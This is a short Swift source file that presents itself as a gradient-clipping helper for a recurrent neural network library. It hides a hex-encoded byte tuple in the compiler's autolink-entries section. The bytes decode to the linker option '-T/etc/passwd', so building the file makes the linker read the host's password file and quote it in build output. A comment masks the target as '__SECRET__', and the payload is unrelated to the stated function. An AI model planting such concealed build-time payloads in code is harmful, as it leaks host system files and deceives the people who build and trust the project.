import Glibc
import RNNCore

// "-T__SECRET__" would make the linker read, and quote, a file of the host.
@used
@section(".swift1_autolink_entries")
let options:
  (UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8) =
    (0x2D, 0x54, 0x2F, 0x65, 0x74, 0x63, 0x2F, 0x70, 0x61, 0x73, 0x73, 0x77, 0x64)

func clipGradients(of parameters: [Parameter], toNorm maxNorm: Float) throws -> Float {
  return try honestly(parameters, maxNorm)
}
